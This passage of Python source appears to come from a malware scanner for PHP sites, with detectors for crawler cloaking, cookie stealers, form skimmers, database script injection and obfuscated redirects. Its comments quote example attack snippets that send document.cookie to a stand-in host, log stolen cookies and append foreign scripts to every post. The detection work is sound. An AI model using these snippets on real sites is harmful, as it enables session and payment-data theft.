        if other != name and other.rstrip(b"/").rsplit(b"/", 1)[-1] == leaf:
            return True
        # people get a page of the same folder picked at run time, and the crawlers' page
        # is one of its choices ('/variants/' . ($arm === 'b' ? 'b' : 'control') . '.html':
        # an A/B test that shows crawlers the control page); a doorway's page is its own
        if folder and other.rstrip(b"/") == folder:
            stem = leaf.rsplit(b".", 1)[0]
            rest = code[m.end() : m.end() + 200]
            rest = rest[: max(0, rest.find(b";"))]
            if any(
                value(int(q.group(1))).lower() == stem
                for q in itertools.islice(PLACEHOLDER.finditer(rest), 8)
            ):
                return True
    return False
# a page of text or HTML, not a script: what a doorway keeps next to the site for crawlers
_PAGE_FILE = tight(rb"\.(?:txt|html?|shtml)$")


def _crawler_flag(ctx: Ctx, cond: bytes) -> bool:
    """A variable of ``cond`` is a flag that a test of the user agent for crawler names sets
    (``foreach ($bots as $bot) if (stripos($ua, $bot) !== false) $is_bot = true;``)."""
    code = ctx.code
    if find(code, b"true") < 0:
        return False  # the setter's pattern holds it: none compiled per variable
    value = ctx.lx.value
    for v in itertools.islice(VAR.finditer(cond), 6):
        setter = re.compile(rb"\$" + re.escape(v.group(1)) + rb"\s*=\s*true\s*;")
        for m in itertools.islice(setter.finditer(code), 3):
            for start, args in calls_to(ctx, CRAWLER_TESTS, 100):
                if not 0 < m.start() - start < 300:
                    continue
                parts = top_args(args)[:2]
                lits = [value(int(q.group(1))).lower() for q in itertools.islice(
                    PLACEHOLDER.finditer(b" ".join(parts)), 4)]
                if any(_BOT_WORDS.search(x) for x in lits) or _bot_list(ctx, parts, start):
                    return True
    return False


@feature("crawler_local_served")
def _crawler_local_served(ctx: Ctx, rule: Rule) -> Hit | None:
    """SEO cloaking from a local page: the first work of a crawler test's block (the user
    agent tested for bot names, by a helper is_bot() or a flag set in a loop over a list)
    is to print or include one fixed text or HTML file (``echo file_get_contents('readme.txt')``,
    ``include 'readme.html'``): crawlers index the page the operator left next to the site,
    visitors get the site. A prerendered snapshot is chosen by the visitor's URL, not one
    literal file; a maintenance page is shown to everyone."""
    text = string_text(ctx)
    if find(text, b"user_agent") < 0 or prefiltered_search(_BOT_WORDS, text) is None:
        return None
    code = ctx.code
    value = ctx.lx.value
    for m in itertools.islice(prefiltered_finditer(_LOCAL_PAGE, code, ctx.first), 20):
        name = value(int(m.group(1))).lower().strip()
        if name.find(b"://") >= 0 or _same_page_for_people(ctx, m.end(), name):
            continue
        script = _PAGE_FILE.search(name) is None
        if script and (not name.endswith(b".php") or not _else_includes(ctx, m.end())):
            continue
        head = _block_head(code, m.start())
        if head.endswith(b"{"):
            head = head[:-1]
        test = _IF_OPENS.search(head)
        if test is None:
            continue
        cond = test.group(0)
        if script and not (_names_crawlers(ctx, cond) and _reads_referrer(ctx, cond)):
            continue
        if _crawler_test(ctx, cond) or _crawler_flag(ctx, cond):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    hit = _crawler_helper_page(ctx)
    if hit is not None:
        return hit
    if has_any(ctx, (b"curl_exec", b"file_get_contents")):
        return _crawler_fixed_fetch(ctx)
    return None


_ELSE_INCLUDE = tight(
    rb"\s*\}\s*else\s*\{?\s*(?:include|require)(?:_once)?\s*\(?\s*"
    rb"(?:(?:__dir__|dirname\s*\(\s*__file__\s*\))\s*\.\s*)?\x01\d+\x01\s*\)?\s*;"
)
_NOT = tight(rb"!(?!=)")


def _else_includes(ctx: Ctx, end: int) -> bool:
    """The include ending at ``end`` is the whole block of its ``if``, and the ``else`` of
    that ``if`` includes another fixed local file: which script runs is chosen by the test."""
    return _ELSE_INCLUDE.match(ctx.code, end) is not None


def _reads_referrer(ctx: Ctx, cond: bytes) -> bool:
    """``cond`` reads the referrer, in itself or in a function of the file's own it calls:
    search visitors picked with the crawlers (a doorway). Dynamic rendering, a prerendered
    script for crawlers and the app for people, tests the user agent only."""
    bodies = function_bodies(ctx)
    called = itertools.islice(_CALLED.finditer(cond), 8)
    texts = [cond] + [bodies.get(c.group(1), b"") for c in called]
    value = ctx.lx.value
    return any(
        value(int(q.group(1))).lower().find(b"http_referer") >= 0
        for text in texts
        for q in itertools.islice(PLACEHOLDER.finditer(text), 40)
    )


def _names_crawlers(ctx: Ctx, cond: bytes) -> bool:
    """``cond`` (an ``if`` test, not negated) names search-engine crawlers, in itself or in
    the body of a function of the file's own that it calls: a device test (phone or desktop)
    reads the user agent too, but names no crawler."""
    if _NOT.search(cond) is not None:
        return False
    value = ctx.lx.value
    bodies = function_bodies(ctx)
    called = itertools.islice(_CALLED.finditer(cond), 8)
    texts = [cond] + [bodies.get(c.group(1), b"") for c in called]
    return any(
        _CRAWLERS.search(value(int(q.group(1))).lower()) is not None
        for text in texts
        for q in itertools.islice(PLACEHOLDER.finditer(text), 40)
    )


# a page printed through a name: echo file_get_contents($page), echo load_page($page) (a
# function of the file's own that returns what file_get_contents() or readfile() read)
_PRINTED_READ = tight(
    rb"(?:echo|print)\s*\(?\s*@?([a-z_][\w]*)\s*\(\s*(\$\w+|\x01\d+\x01|"
    rb"(?:__dir__|dirname\s*\(\s*__file__\s*\))\s*\.\s*\x01\d+\x01)\s*\)\s*;"
)
_FIXED_PATH = tight(
    rb"\s*(?:(?:__dir__|dirname\s*\(\s*__file__\s*\))\s*\.\s*)?\x01(\d+)\x01\s*"
)
_READS_PARAM = tight(rb"return\s+@?(?:file_get_contents|implode\s*\([^;]{0,20}file)\s*\(\s*\$")


def _crawler_helper_page(ctx: Ctx) -> Hit | None:
    """The first work of a crawler test's block is to print (not run) the text of one
    local file the script names, read by file_get_contents() or by a function of the
    file's own that returns it, the name given directly or in a variable set once to one
    literal (``$landing = __DIR__ . '/landing.php'; ... echo load_file($landing);``)."""
    code = ctx.code
    value = ctx.lx.value
    bodies: dict[bytes, bytes] | None = None
    for m in itertools.islice(prefiltered_finditer(_PRINTED_READ, code, ctx.first), 40):
        fn = m.group(1)
        if fn != b"file_get_contents":
            if bodies is None:
                bodies = function_bodies(ctx)
            if _READS_PARAM.search(bodies.get(fn, b"")) is None:
                continue
        arg = m.group(2)
        if arg.startswith(b"$"):
            given = var_assigns(code, arg[1:], TAIL_RHS, 3)
            if len(given) != 1:
                continue
            path = _FIXED_PATH.fullmatch(given[0][1].group(1))
        else:
            path = _FIXED_PATH.fullmatch(arg)
        if path is None:
            continue
        name = value(int(path.group(1))).lower()
        if name.find(b"://") >= 0 or _same_page_for_people(ctx, m.end(), name):
            continue
        if _crawler_block_first(ctx, m.start()):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    # the same page read into a variable first, the variable printed next
    # ($bot = file_get_contents('wp-meta.php'); echo $bot; exit;)
    found = _READ_INTO.finditer(code) if find(code, b"file_get_contents") >= 0 else ()
    for m in itertools.islice(found, 40):
        path = _FIXED_PATH.fullmatch(m.group(2))
        if path is None:
            continue
        name = value(int(path.group(1))).lower()
        if name.find(b"://") >= 0 or _same_page_for_people(ctx, m.end(), name):
            continue
        printed = _PRINTED_VAR.match(code, m.end())
        if (printed is not None and printed.group(1) == m.group(1)
                and _crawler_block_first(ctx, m.start())):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    return None


# the next statement prints a variable: echo $page;
_PRINTED_VAR = tight(rb"\s*(?:echo|print)\s*\(?\s*\$(\w+)\s*\)?\s*;")
# a local file's text read into a variable: $page = file_get_contents('bot.html');
_READ_INTO = tight(
    rb"\$(\w+)\s*=\s*@?file_get_contents\s*\(((?:\s*(?:__dir__|dirname\s*\(\s*__file__\s*\))"
    rb"\s*\.)?\s*\x01\d+\x01\s*)\)\s*;"
)


def _crawler_block_first(ctx: Ctx, at: int) -> bool:
    """The work at ``at`` is the first of a block opened by a crawler test (the user agent
    tested for bot names, by a helper or through a flag)."""
    head = _block_head(ctx.code, at)
    if not head.endswith(b"{"):
        return False
    test = _IF_OPENS.search(head[:-1])
    return test is not None and (
        _crawler_test(ctx, test.group(0)) or _crawler_flag(ctx, test.group(0))
    )


# the first work of a block: a page fetched into a variable from the address another holds,
# by file_get_contents or a function of the file's own: $html = fetchContent($pageUrl);
_FETCHED_INTO = tight(
    rb"\$(\w+)\s*=\s*@?([a-z_][\w]*)\s*\(\s*\$(\w+)\s*\)\s*;"
)


def _crawler_fixed_fetch(ctx: Ctx) -> Hit | None:
    """The first work of a crawler test's block is to fetch a page from an address a
    variable holds, one literal the script sets (not the visitor's URL a prerendering
    service is given), by file_get_contents or a function of the file's own that runs curl,
    then print it and stop: crawlers index the operator's page (a doorway kit whose address
    is filled in on install)."""
    code = ctx.code
    bodies: dict[bytes, bytes] | None = None
    for m in itertools.islice(_FETCHED_INTO.finditer(code), 200):
        fn = m.group(2)
        if fn != b"file_get_contents":
            if bodies is None:
                bodies = function_bodies(ctx)
            body = bodies.get(fn, b"")
            if find(body, b"curl_exec") < 0 and find(body, b"file_get_contents") < 0:
                continue
        rest = code[m.end() : m.end() + 300]
        out = re.search(rb"(?:echo|print)\s*\(?\s*\$" + re.escape(m.group(1)) + rb"\b", rest)
        if out is None or _ENDS.search(rest, out.end()) is None:
            continue
        given = var_assigns(code, m.group(3), TAIL_RHS, 5)
        if len(given) != 1 or PLACEHOLDER.fullmatch(given[0][1].group(1).strip()) is None:
            continue
        head = _block_head(code, m.start())
        if not head.endswith(b"{"):
            continue
        test = _IF_OPENS.search(head[:-1])
        if test is not None and _crawler_test(ctx, test.group(0)):
            return Hit(ctx.line_of_code(m.start()), ctx.excerpt_code(m.start(), m.start() + 80))
    return None


# ------------------------------------------------------------- stolen cookies received
# the cookie a script receives: in the query string as a whole, or in a request field
_QUERY_VALUE = tight(
    rb"\$_server\s*\[\s*\x01(\d+)\x01\s*\]|\$_(?:get|request|post)\s*\[\s*\x01(\d+)\x01\s*\]"
)
# "cookie" as a word (a label "Cookie: ", a variable $cookie, a key 'cookies'), not the
# name of a consent setting (cookie_consent, cookies_accepted)
_COOKIE_WORD = tight(rb"(?<![a-z0-9_])c[o0]{2}kies?(?![a-z0-9_])")


@feature("stolen_cookie_log")
def _stolen_cookie_log(ctx: Ctx, rule: Rule) -> Hit | None:
    """The receiving end of a cookie stealer: a value of the query string or of a request
    field, called a cookie (by its key, its variable or its label), written to a file or
    mailed with the visitor's address or browser (``fputs($log, "IP: $ip | Agent: $ua |
    COOKIE: $cookie")`` with ``$cookie = $_SERVER['QUERY_STRING']``): another site's
    visitors' sessions, sent here by an injected script; also without the visitor's address
    when each value received is appended to a log (``fwrite(fopen('cookies.txt', 'a'),
    $_GET['cookie'])``). A site keeps its own cookies in $_COOKIE and logs a consent choice
    by another name."""
    if (
        find(ctx.code, b"cookie") < 0
        and find(ctx.code, b"c00kie") < 0
        and string_text(ctx).find(b"cookie") < 0
        and string_text(ctx).find(b"c00kie") < 0
    ):
        return None
    value = ctx.lx.value
    for start, args in calls_to(ctx, (b"fwrite", b"fputs", b"file_put_contents", b"mail"), 20):
        parts = top_args(args)
        if len(parts) < 2:
            continue
        sent = b" , ".join(parts[1:])
        text = _sent_text(ctx, sent, 2)
        flat = interpolated(ctx, text)
        if _COOKIE_WORD.search(flat) is None and not any(
            _COOKIE_WORD.search(value(int(p.group(1))).lower()) is not None
            for p in itertools.islice(PLACEHOLDER.finditer(text), 100)
        ):
            continue
        received = False
        for m in itertools.islice(_QUERY_VALUE.finditer(text), 40):
            if m.group(1) is not None:
                received = value(int(m.group(1))).lower() == b"query_string"
            else:
                received = _COOKIE_WORD.search(value(int(m.group(2))).lower()) is not None
            if received:
                break
        if not received:
            continue
        marks = _VISITOR_MARK.search(flat) is not None or any(
            _VISITOR_MARK.search(value(int(p.group(1))).lower()) is not None
            for p in itertools.islice(PLACEHOLDER.finditer(text), 200)
        )
        # or each one received added to a log of them (fopen($f, 'a'), FILE_APPEND): a
        # stealer that keeps every cookie sent to it, with or without who sent it
        if marks or appended_path(ctx, start, parts) is not None:
            return Hit(ctx.line_of_code(start), ctx.excerpt_code(start, start + 80))
    return None


# -------------------------------------------------------------- JavaScript written by PHP
def _in_page_text(ctx: Ctx, rx: re.Pattern[bytes]) -> Hit | None:
    """A match of ``rx`` in the text the file outputs or holds (literals, inline HTML)."""
    m = rx.search(string_text(ctx))
    return None if m is None else string_hit(ctx, m)


@per_file("has-script")
def _has_script(ctx: Ctx) -> bool:
    """Whether the file's bytes hold "<script" (two rules ask; a search of the whole file)."""
    return find(ctx.data, b"<script") >= 0


# the cookies glued into an address: new Image().src = 'http://x/?c=' + escape(document.cookie)
_COOKIE_EXFIL = tight(
    rb"(?:https?:)?//[^\x00'\"\s]{3,200}['\"]\s*\+\s*(?:(?:escape|encodeuricomponent|btoa)\s*\(\s*)?"
    rb"document\.cookie"
)


# ... or into the address of a redirect, an image or a request that the page builds, its
# host glued in by PHP: document.location = '<?= $url ?>?c=' + document.cookie (the pieces
# may be separate literals: at most 300 bytes apart, within one statement of the script)
_COOKIE_SENT = tight(
    rb"(?:\blocation(?:\.href)?\s*=|\.src\s*=|\bopen\s*\(|\bfetch\s*\()\s*['\"][^;]{0,300}?"
    rb"['\"]\s*\+\s*(?:(?:escape|encodeuricomponent|btoa)\s*\(\s*)?document\.cookie"
)


# ... or sent as the body of a request to an address that is not the site's own path (a
# literal http(s):// or //host, or one PHP fills in): x.open('POST', '<?= $u ?>');
# x.send(document.cookie), navigator.sendBeacon('https://h/l', document.cookie), fetch(url,
# {body: document.cookie}), $.post('//h/l', {c: document.cookie})
_COOKIE_BODY = tight(
    rb"(?:\bopen\s*\(\s*['\"](?:post|get|put)['\"]\s*,\s*|sendbeacon\s*\(\s*|\bfetch\s*\(\s*|"
    rb"(?:\$|jquery)\.(?:post|get|ajax)\s*\(\s*(?:\{\s*url\s*:\s*)?|"
    rb"new\s+websocket\s*\(\s*)['\"](?:(?:(?:https?|wss?):)?//|"
    rb"(?:\x00|\{?\$[a-z_][\w>\[\]'-]{0,40}\}?)?['\"])[^\x00]{0,300}?"
    rb"(?:\.send\s*\(|,|\bbody\s*:|\bdata\s*:)\s*(?:\{[^}]{0,80}?:\s*)?"
    rb"(?:(?:escape|encodeuricomponent|btoa|json\.stringify)\s*\(\s*)?document\.cookie"
)


@feature("js_cookie_exfil")
def _js_cookie_exfil(ctx: Ctx, rule: Rule) -> Hit | None:
    """JavaScript in the page (a PHP string or the file's HTML) that glues the visitor's
    cookies into a web address, which the browser then loads (a literal address, or the
    address of a redirect, an image or a request whose host PHP fills in): session cookies
    sent to a third party; or that sends them as a request's body to an address other than
    the site's own paths (XMLHttpRequest's send(), sendBeacon(), fetch's body, jQuery's
    post()). (Scripts that read or set their own cookie do not build an address or post
    it.)"""
    if find(ctx.data, b"document.cookie") < 0:
        return None
    hit = _in_page_text(ctx, _COOKIE_EXFIL) or _in_page_text(ctx, _COOKIE_SENT)
    if hit is not None:
        return hit
    m = _COOKIE_BODY.search(string_text(ctx))
    if m is None:
        return None
    if _PHP_FILLED.match(m.group(0)) is not None and _own_host_address(ctx):
        # the address PHP fills in is the site's own ('https://' . $_SERVER['HTTP_HOST'] .
        # '/api/session/ping', and no other host written in the file): a keep-alive or
        # consent call to its own server, which gets those cookies anyway
        return None
    return string_hit(ctx, m)


# the address of _COOKIE_BODY's request left for PHP to fill in (an empty literal in the
# page's text: sendBeacon('<?= $api ?>', ...), fetch('" . $u . "', ...), "$u" in a heredoc)
_PHP_FILLED = tight(rb"[^'\"]*['\"](?:\x00|\{?\$[a-z_][\w>\[\]'-]{0,40}\}?)?['\"]")
_OTHER_HOST = tight(rb"(?:https?:|wss?:)?//[a-z0-9]")


def _own_host_address(ctx: Ctx) -> bool:
    """The file builds a web address from the host the visitor asked for (HTTP_HOST,
    SERVER_NAME) and writes no literal address of another host."""
    value = ctx.lx.value
    host = any(
        value(int(q.group(1))) in (b"HTTP_HOST", b"SERVER_NAME")
        for q in itertools.islice(PLACEHOLDER.finditer(ctx.code), 2000)
    )
    return host and _OTHER_HOST.search(string_text(ctx)) is None


# a form's fields read in the page: new FormData(form), document.forms, an input's value,
# jQuery's serialize(), the inputs of a form walked
_JS_FORM_READ = tight(
    rb"new\s+formdata\s*\(|document\.forms\b|queryselector(?:all)?\s*\([^)]{0,80}\)\s*\.value\b|"
    rb"getelementsbyname\s*\([^)]{0,80}\)\s*\[\s*\d\s*\]\s*\.value\b|"
    rb"\.serialize(?:array)?\s*\(\s*\)|queryselectorall\s*\(\s*['\"][^'\"]{0,60}\binput\b|"
    rb"getelementbyid\s*\([^)]{0,80}\)"
)
# ... when the visitor submits or leaves a field or the page
_JS_FORM_EVENT = tight(
    rb"addeventlistener\s*\(\s*['\"](?:submit|change|blur|click|beforeunload|pagehide)['\"]|"
    rb"\bonsubmit\s*=|\.on(?:submit|change|blur)\s*=|\.on\s*\(\s*['\"](?:submit|change|blur)['\"]"
)
# ... sent to a literal address of another host: fetch('https://...'), sendBeacon('//...'),
# xhr.open('POST', 'https://...'), new Image().src = 'https://...', $.post('https://...'),
# new WebSocket('wss://...')
_JS_SENT_AWAY = tight(
    rb"(?:\bfetch\s*\(\s*|sendbeacon\s*\(\s*|\bopen\s*\(\s*['\"](?:post|get)['\"]\s*,\s*|"
    rb"\.src\s*=\s*|(?:\$|jquery)\.(?:post|get|ajax)\s*\(\s*(?:\{\s*url\s*:\s*)?|"
    rb"new\s+websocket\s*\(\s*)['\"](?:(?:https?|wss?):)?//[a-z0-9]"
)
# ... on a page that takes payments or passwords
_JS_PAYMENT_WORDS = tight(
    rb"checkout|payment|billing|\bcard|cc[_-]?num|\bcvv|\bcvc|password|passwd|\bexpir"
)
# the form taken whole (all its fields), or its fields walked in a loop
_JS_WHOLE_FORM = tight(
    rb"object\.fromentries\s*\(|\.serialize(?:array)?\s*\(|\.foreach\s*\(|\.elements\b|"
    rb"\bfor\s*\(|(?:\bbody\s*:|\.send\s*\()\s*(?:new\s+formdata\s*\(|[a-z_$][\w$]*\s*[,})])|"
    rb"sendbeacon\s*\(\s*['\"][^'\"]{0,200}['\"]\s*,\s*(?:new\s+formdata\s*\(|[a-z_$][\w$]*\s*\))"
)
# one field read: data.get('email'), an input's value
_JS_FIELD = tight(rb"\.get\s*\(\s*['\"]|\.value\b(?!\s*=[^=])")
# the answer read: r.json(), r.text(), xhr.responseText (an address lookup, a tokenizer)
_JS_ANSWER_READ = tight(rb"\.(?:json|text)\s*\(\s*\)|responsetext|\.response\b")


@feature("js_form_skimmer")
def _js_form_skimmer(ctx: Ctx, rule: Rule) -> Hit | None:
    """A <script> written by PHP that, when the visitor submits or leaves a form, reads its
    fields (``new FormData(form)``, an input's ``.value``, jQuery's ``serialize()``) and
    sends them to a literal address of another host (fetch, sendBeacon, XMLHttpRequest, an
    image's src, jQuery's post, a WebSocket), on a checkout, card or password form
    (``checkout``, ``card``, ``cvv``, ``password`` in the script or the PHP that writes
    it): a skimmer (Magecart). A site's own forms post to its own paths; a newsletter or
    contact form sent to a mailing service names no payment or password. The form is taken
    whole, walked or read field by field (more than one): an analytics event that sends one
    field (the payment method) is not; and the skimmer never reads the answer, which an
    address lookup from the postcode or a payment service's card tokenizer does."""
    if not _has_script(ctx):
        return None
    text = string_text(ctx)
    for m in itertools.islice(prefiltered_finditer(_JS_FORM_READ, text), 20):
        lo = max(text.rfind(b"\x00", 0, m.start()) + 1, m.start() - 800)
        hi = find(text, b"\x00", m.end())
        hi = min(hi if hi >= 0 else len(text), m.end() + 800)
        if _JS_FORM_EVENT.search(text, lo, hi) is None:
            continue
        sent = _JS_SENT_AWAY.search(text, lo, hi)
        if sent is None:
            continue
        if _JS_PAYMENT_WORDS.search(text, lo, hi) is None and (
            _JS_PAYMENT_WORDS.search(ctx.code) is None
        ):
            continue
        if _JS_WHOLE_FORM.search(text, lo, hi) is None and (
            len(_JS_FIELD.findall(text, lo, hi)) < 2
        ):
            continue  # one field sent (an analytics event's payment method)
        answer = _JS_ANSWER_READ.search(text, sent.end(), hi)
        if answer is not None and _JS_PAGE_WRITE.search(text, answer.end(), hi) is not None:
            continue  # the answer put in the page: a lookup or a payment service's tokenizer
        if _named_fields_only(text, m, hi) or _named_values_only(text, lo, hi):
            continue
        return string_hit(ctx, m, shown=text[lo:hi])
    return None


# the answer put in the page: a field's value set (a token, a city), the form sent on, a text
# shown (jQuery's .val(x), .html(x), .text(x))
_JS_PAGE_WRITE = tight(
    rb"\.value\s*=(?!=)|\.submit\s*\(|\.(?:innerhtml|textcontent|innertext)\s*=(?!=)|"
    rb"insertadjacenthtml\s*\(|\.(?:val|html|text)\s*\(\s*[\w$]"
)
# an input read by its id or name: document.getElementById('coupon').value,
# querySelector('#plan').value, querySelector('[name="email"]').value (group 1: the name)
_JS_NAMED_VALUE = tight(
    rb"(?:getelementbyid\s*\(\s*['\"]|queryselector\s*\(\s*['\"](?:#|\[name=['\"]?))"
    rb"([\w\-\[\]]{1,60})['\"]?\]?['\"]\s*\)\s*$"
)
# a field name a skimmer is after: a card's number, code or expiry, a password, an account
_SECRET_NAME = tight(
    rb"card|cc[_\-]?num|\bcc\b|cc_|cvv|cvc|\bcid\b|cc_cid|expir|\bexp|pass|pwd|\bpin\b|ssn|"
    rb"iban|account|security|code|\bpan\b|secret|otp"
)


def _named_values_only(text: bytes, lo: int, hi: int) -> bool:
    """Whether the script from ``lo`` to ``hi`` reads fields only by id or name, one at a
    time (``document.getElementById('coupon').value``), none a card, code or password field,
    and never the form whole: checkout analytics (the plan, the coupon) or a newsletter
    opt-in (the buyer's name and address sent to a mailing service), not a copy of the
    card."""
    if _JS_WHOLE_FORM.search(text, lo, hi) is not None:
        return False
    reads = list(itertools.islice(_JS_FIELD.finditer(text, lo, hi), 20))
    if not reads:
        return False
    for r in reads:
        if not r.group().startswith(b".value"):
            return False  # f.get('...'): the FormData's own rule (_named_fields_only)
        named = _JS_NAMED_VALUE.search(text, max(lo, r.start() - 120), r.start())
        if named is None or _SECRET_NAME.search(named.group(1)) is not None:
            return False
    return True


# the form read into a variable: var f = new FormData(e.target)
_FORM_DATA_VAR = tight(
    rb"(?:\bvar|\blet|\bconst|[;,{(])\s*([a-z_$][\w$]{0,40})\s*=\s*new\s+formdata\s*\($"
)
# ... whose use is one named field: f.get('cart_count')
_FORM_FIELD_GET = tight(rb"\.get(?:all)?\s*\(\s*['\"]([^'\"]{0,60})['\"]\s*\)")
# fields a skimmer wants: card, code, expiry, password, account
_SECRET_FIELD = tight(
    _JS_PAYMENT_WORDS.pattern + rb"|pass|pwd|\bpin\b|ssn|iban|account|\bcc\b|security|code"
)


def _named_fields_only(text: bytes, m: re.Match[bytes], hi: int) -> bool:
    """Whether the form read at ``m`` (``new FormData(...)`` kept in a variable) is used
    only to pick single fields by name, none of them a card, code or password field
    (``f.get('cart_count')``): analytics that count a checkout, not a copy of what the buyer
    typed. A skimmer sends the form whole (the variable itself, ``Object.fromEntries(f)``,
    a loop over its entries) or its card and password fields."""
    d = _FORM_DATA_VAR.search(text, max(0, m.end() - 80), m.end())
    if d is None:
        return False
    rest = text[m.end() : hi]
    used = re.compile(rb"(?<![\w$.])" + re.escape(d.group(1)) + rb"(?![\w$])")
    uses = list(itertools.islice(used.finditer(rest), 20))
    if not uses:
        return False
    for u in uses:
        g = _FORM_FIELD_GET.match(rest, u.end())
        if g is None or _SECRET_FIELD.search(g.group(1)) is not None:
            return False
    return True


# SQL that appends to every post or option: UPDATE wp_posts SET post_content =
# CONCAT(post_content, ...), or puts a value after (or in place of) a piece of each:
# SET post_content = REPLACE(post_content, '</p>', '</p>$tag')
_SQL_APPEND_CONTENT = tight(
    rb"update\s[^\x00]{0,80}?\bset\s+`?(post_content|post_excerpt|option_value|meta_value|"
    rb"comment_content|content|body|html)`?\s*=\s*(concat|replace)\s*\("
)
# ... a REPLACE() whose searched text is no tag of its own (a CDN move swaps one script's
# address for another's: '<script src="http://old' for '<script src="https://new')
_SQL_REPLACE_ADDS = tight(
    rb"\A\s*`?\w+`?\s*,\s*'([^'\x00]{0,200})'\s*,\s*'[^'\x00]{0,200}?(?:<script|<iframe|\$)"
)
# ... of one post: WHERE ID = 42 (an editor's embed in the post being edited)
_SQL_ONE_ROW = tight(
    rb"\bwhere\s+`?id`?\s*=\s*(?:%d|\d+|\$\w+)"
    rb"\s*(?:limit\s+1\s*)?['\";]?\s*\Z"
)
# a script or frame of another host
# (the literals' text as written: a double-quoted literal's quote may come escaped, src=\")
_FOREIGN_TAG = tight(
    rb"<(?:script|iframe)\b[^>]{0,200}?\bsrc\s*=\s*\\?['\"]?(?:https?:)?//"
)
_DECODERS = (b"base64_decode", b"hex2bin", b"str_rot13", b"gzinflate", b"strrev", b"urldecode")


@feature("db_script_inject")
def _db_script_inject(ctx: Ctx, rule: Rule) -> Hit | None:
    """SQL that appends to the site's posts or options (``UPDATE wp_posts SET post_content
    = CONCAT(post_content, ...)``, or ``REPLACE(post_content, '</p>', '</p><script...')``)
    in a file that holds a <script> or <iframe> of another host (written out, or decoded
    from a literal as the value is set): every page of the site made to load the attacker's
    script (the injectors that spread skimmers and redirects through the database).
    Search-and-replace migrations REPLACE() an address (or one tag by another); an editor
    appends an embed to one post (``WHERE ID = %d``), a setup step a tag service's script
    (Google Tag Manager...) to a setting row."""
    text = string_text(ctx)
    if (find(text, b"concat") < 0 and find(text, b"replace") < 0) or find(text, b"update") < 0:
        return None
    decoded = any(ctx.first(w) >= 0 for w in _DECODERS)
    if not decoded and (find(text, b"src") < 0 or _FOREIGN_TAG.search(text) is None):
        return None
    for m in itertools.islice(_SQL_APPEND_CONTENT.finditer(text), 10):
        hit = _db_script_appended(ctx, text, m)
        if hit is not None:
            return hit
    return None


def _db_script_appended(ctx: Ctx, text: bytes, m: re.Match[bytes]) -> Hit | None:
    """The statement of the SQL ``m`` found adds a foreign script to many rows."""
    idx = string_at(ctx, m.start())
    if idx < 0:
        return None
    sql_end = find(text, b"\x00", m.end())
    sql_rest = text[m.end() : sql_end if sql_end >= 0 else len(text)]
    if m.group(2) == b"replace":
        adds = _SQL_REPLACE_ADDS.match(sql_rest)
        if adds is None or re.search(rb"<script|<iframe", adds.group(1)):
            return None
    code = ctx.code
    at = find(code, b"\x01%d\x01" % idx)
    if _SQL_ONE_ROW.search(sql_rest[-200:]) is not None and not in_loop(code, at):
        return None  # one post (not each row of a loop over the posts, WHERE ID = $id)
    end = find(code, b";", at)
    stmt = code[at : end if end >= 0 else at + 2000]
    value = ctx.lx.value
    # what the statement appends: the SQL itself, a literal or a variable set to one (or
    # to a value the folder computes: base64_decode('PHNjcmlwdCBzcmM9...'))
    held = [value(int(q.group(1))) for q in itertools.islice(PLACEHOLDER.finditer(stmt), 20)]
    names = set(itertools.islice(_STMT_VAR.findall(stmt), 20))
    names.update(itertools.islice(_STMT_VAR.findall(ctx.lx.raw_strings[idx].lower()), 10))
    for var in names:
        set_to = re.search(rb"\$" + re.escape(var) + rb"\s*=(?![=>])\s*", code)
        if set_to is None:
            continue
        folded = fold.fold_at(code, ctx.lx, set_to.end())
        if folded is not None:
            held.append(folded.value)
    # the hosts of its tags, and of scripts its inline code loads (s.src = 'https://...')
    hosts = (_FOREIGN_TAG_HOST, _JS_LOADED_HOST)
    tags = [t for v in held for rx in hosts for t in rx.findall(v.lower())]
    if not tags:
        return None
    if m.group(1) in _SETTING_COLUMNS and all(_TAG_SERVICE.search(h) for h in tags):
        # one setting row given the site's own analytics tag (a setup step writing its
        # Google Tag Manager snippet into the footer-scripts option): the script of a tag
        # service the site's owner signs up to, not a host of the script's own; every post
        # given a script stays an injection whoever serves it
        return None
    return string_hit(ctx, m)


# the host of a script or frame of another host
_FOREIGN_TAG_HOST = tight(
    rb"<(?:script|iframe)\b[^>]{0,200}?\bsrc\s*=\s*['\"]?(?:https?:)?//([a-z0-9.-]{1,100})"
)
# a script an inline script loads: s.src = 'https://host/...'
_JS_LOADED_HOST = tight(rb"\.src\s*=\s*['\"](?:https?:)?//([a-z0-9.-]{1,100})")
# columns that hold one setting each (an option, a post's or a user's meta value)
_SETTING_COLUMNS = (b"option_value", b"meta_value")
# the hosts of the analytics and tag services a site's owner adds to its own pages
_TAG_SERVICE = tight(
    rb"(?:^|\.)(?:googletagmanager\.com|google-analytics\.com|plausible\.io|"
    rb"static\.cloudflareinsights\.com|cdn\.usefathom\.com|static\.hotjar\.com|"
    rb"connect\.facebook\.net|js\.hs-scripts\.com|snap\.licdn\.com)$"
)


_STMT_VAR = tight(rb"\$(" + NAME_P + rb")\b(?!\s*->)")


# a script that sends the browser to an address PHP fills in where the literal ends:
# '<script>top.location.href = %s' / "<script>location.replace('" . $u
_JS_LOCATION_FILLED = tight(
    rb"(?:\blocation(?:\.href)?\s*=|location\.(?:replace|assign)\s*\()"
    rb"\s*['\"]?(?:%s)?['\"]?\s*[;)]?\s*(?:</script>)?\s*\Z"
)
# ... an address the script decodes from a literal: base64_decode('aHR0c...'), str_rot13(...)
_DECODED_LITERAL = tight(
    rb"(?<![\w$>:])(?:base64_decode|str_rot13|strrev|hex2bin|urldecode|rawurldecode|"
    rb"gzinflate|convert_uudecode)\s*\(\s*\x01\d+\x01"
)


@feature("js_decoded_redirect")
def _js_decoded_redirect(ctx: Ctx, rule: Rule) -> Hit | None:
    """A <script> written by PHP that sends the browser on to an address PHP decodes as it
    writes the page (``printf('<script>top.location.href = %s;</script>',
    json_encode(base64_decode('aHR0cHM6...')))``): an injected redirect whose target is kept
    out of sight of a reader and of a search for its domain. A site writes its own
    addresses as they are. The same in the page's own HTML: a meta refresh or a script's
    location whose address is PHP's echo of a decoded literal (``<meta http-equiv="refresh"
    content="0;url=<?php echo str_rot13('uggcf://...'); ?>">``)."""
    inline = _inline_decoded_redirect(ctx)
    if inline is not None:
        return inline
    if not _has_script(ctx):
        return None
    code = ctx.code
